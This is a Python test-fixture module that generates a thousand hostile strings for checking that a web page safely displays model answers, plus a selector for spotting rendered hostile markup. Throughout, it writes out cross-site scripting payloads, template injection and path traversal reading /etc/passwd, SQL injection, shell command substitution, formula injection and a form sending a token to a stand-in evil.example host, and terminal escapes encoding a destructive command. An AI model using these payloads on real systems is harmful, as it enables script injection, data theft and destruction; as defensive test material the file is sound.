"""A thousand distinct texts that a model could answer to hurt whoever shows them.

What would run sets `window.ran`, and what would become an element is of the class `hostile`.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from functools import cache
from itertools import chain, product

COUNT = 1000

#: characters of the one that is too long to be shown
HUGE = 10_000_000

#: finds what became of hostile markup, on any page of ours
TRACES = (
    ".hostile, iframe, object, embed, form[action*='//'], meta[http-equiv], base, "
    "script:not([src^='/static/']):not([type='application/json']), "
    "[onload], [onerror], [onclick], [onfocus], [ontoggle], [onmouseover], [style*='expression'], "
    "[href^='javascript:'], [href^='data:'], [src^='data:text'], [xlink\\:href]"
)

_MARKUP = (
    "<script class=hostile>window.ran=1</script>",
    "<SCRIPT class=hostile>window.ran=1</SCRIPT>",
    "<script/class=hostile>window.ran=1</script/>",
    "<script class=hostile src=http://evil.example/a.js></script>",
    "<scr<script class=hostile>ipt>window.ran=1</scr</script>ipt>",
    "<svg class=hostile onload=window.ran=1>",
    "<svg class=hostile><script>window.ran=1</script></svg>",
    "<svg class=hostile><a xlink:href='javascript:window.ran=1'><text>go</text></a></svg>",
    "<svg class=hostile><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<img class=hostile src=x onerror=window.ran=1>",
    "<img class=hostile src='http://evil.example/pixel.png'>",
    "<image class=hostile src=x onerror=window.ran=1>",
    "<body class=hostile onload=window.ran=1>",
    "<iframe class=hostile srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe class=hostile src='javascript:parent.ran=1'></iframe>",
    "<object class=hostile data='data:text/html,<script>parent.ran=1</script>'></object>",
    "<embed class=hostile src='data:image/svg+xml,<svg onload=window.ran=1>'>",
    "<a class=hostile href='javascript:window.ran=1'>the answer</a>",
    "<a class=hostile href='http://evil.example/'>the answer</a>",
    "<form class=hostile action=http://evil.example/><input name=token><button>go</button></form>",
    "<input class=hostile autofocus onfocus=window.ran=1>",
    "<details class=hostile open ontoggle=window.ran=1>",
    "<marquee class=hostile onstart=window.ran=1>",
    "<video class=hostile><source onerror=window.ran=1></video>",
    "<math class=hostile><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<style class=hostile>* { display: none }</style>",
    "<link class=hostile rel=stylesheet href=http://evil.example/a.css>",
    "<meta class=hostile http-equiv=refresh content='0; url=http://evil.example/'>",
    "<base class=hostile href=http://evil.example/>",
    "<template class=hostile><script>window.ran=1</script></template>",
    "<noscript><p title='</noscript><img class=hostile src=x onerror=window.ran=1>'>",
    "<div class=hostile style='position:fixed;inset:0;background:red'>over everything</div>",
    "<b class=hostile>bold</b>",
    "<x-hostile class=hostile></x-hostile>",
    "<plaintext class=hostile>",
    "<xmp class=hostile>",
    "<!-- <b class=hostile>",
    "<![CDATA[<b class=hostile>]]>",
    "<?xml version='1.0'?><b class=hostile>",
    "&lt;script class=hostile&gt;window.ran=1&lt;/script&gt;",
    "&#60;img class=hostile src=x onerror=window.ran=1&#62;",
    "&amp;lt;b class=hostile&amp;gt; &nbsp &notin &#0; &#xD800; &#x110000; &;",
    "\\u003cscript class=hostile\\u003ewindow.ran=1\\u003c/script\\u003e",
    "%3Cscript%20class=hostile%3Ewindow.ran=1%3C/script%3E",
    "\uff1cscript class=hostile\uff1ewindow.ran=1\uff1c/script\uff1e",
    "+ADw-script class=hostile+AD4-window.ran=1+ADw-/script+AD4-",
)

#: what a text may have to break out of first
_AROUND = (
    "{}",
    "```python\n{}\n```",
    "def f(x):\n    # {}\n    return x\n",
    'def f(x):\n    """{}"""\n    return x\n',
    '">{}',
    "'>{}",
    "</pre></code>{}",
    "</textarea></title></style>{}",
    "</script>{}",
    "-->{}",
    "]]>{}",
)

_TEMPLATES = (
    "{{7*7}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}{{ 1 }}{% endraw %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "%(name)s %s %d %n",
    "{0.__class__}",
    "$(reboot) `reboot` $HOME ~",
)

_PLACES = (
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1",
    "java\nscript:window.ran=1",
    "vbscript:window.ran=1",
    "data:text/html,<script class=hostile>window.ran=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "//evil.example/",
    "http://evil.example/\u202egnp.exe",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "http://[::1]:1/?a=1&b=2#<b class=hostile>",
)

_FORMULAS = ("=1+1", '=HYPERLINK("http://evil.example")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1")

_ANSI = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x9b31m",
    "\x1bP+q544e\x1b\\",
    "a\rb",
    "back\x08\x08\x08\x08",
)

_STRANGE = (
    "",
    " ",
    "\n" * 500,
    "\t" * 500,
    "\x00",
    "before\x00after",
    "\x00<b class=hostile>\x00",
    "\ud800",
    "\udfff",
    "\ude00\ud83d",
    "high \ud83d alone",
    "\ud83d\ude00 joined of halves",
    "\ufeffa byte order mark",
    "\ufffe\uffff\U0010ffff",
    "\u2028line\u2029paragraph\x85next",
    "\u202eright to left override",
    "access_level != 'user\u202e \u2066// admin\u2069 \u2066'",
    "".join(map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A)))),
    "\u200bzero\u200cwidth\u200djoiners\u2060\ufeff",
    "\u0440\u0430yp\u0430l",
    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd",
    "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e007f",
    "\U0001f600" * 300,
    "\ufdfd" * 50,
    "Z\u0351\u0300" + "\u0336" * 800,
    "".join(f"{letter}{chr(0x300 + place % 112) * 40}" for place, letter in enumerate("combined")),
    "x" * 100_000,
    "word " * 20_000,
    "(" * 10_000,
    "[" * 5_000 + "]" * 5_000,
    "<" * 50_000,
    "&" * 50_000,
    "\\" * 1_000,
    "'\"`" * 1_000,
    "<b class=hostile>" * 2_000,
    "```" * 1_000,
    "# " * 500 + "\n| a | b |\n|---|---|\n",
    '{"__proto__": {"ran": 1}, "constructor": null}',
    "NaN",
    "null",
    "undefined",
    "-0",
    "1e999",
    "'; DROP TABLE runs; --",
    '" OR 1=1 --',
    "event: scores\ndata: {}\n\n",
    "data: x\n\nid: 7\nretry: 1\n\n",
    "HTTP/1.1 200 OK\r\nSet-Cookie: crucible_token=1\r\n\r\n",
    "</" + "div>" * 300,
)


@cache
def hostile_texts() -> tuple[str, ...]:
    """The texts, the same every time; the last one has HUGE characters."""
    found: dict[str, None] = {}
    for text in _all():
        found[text] = None
        if len(found) == COUNT - 1:
            break
    return (*found, ("<b class=hostile>" + "x" * 83) * (HUGE // 100))


def _all() -> Iterator[str]:
    yield from _STRANGE
    yield from (f"a{chr(number)}b" for number in chain(range(0x20), range(0x7F, 0xA0)))
    yield from chain(_TEMPLATES, _PLACES, _FORMULAS, _ANSI)
    for text, around in product(_MARKUP, _AROUND):
        yield around.replace("{}", text)
    rng = random.Random(7)
    pieces = (*_MARKUP, *_TEMPLATES, *_PLACES, *_FORMULAS, *_ANSI, *_STRANGE[:27])
    while True:
        # what is harmless alone may not be so beside another
        yield "\n".join(rng.sample(pieces, 3))
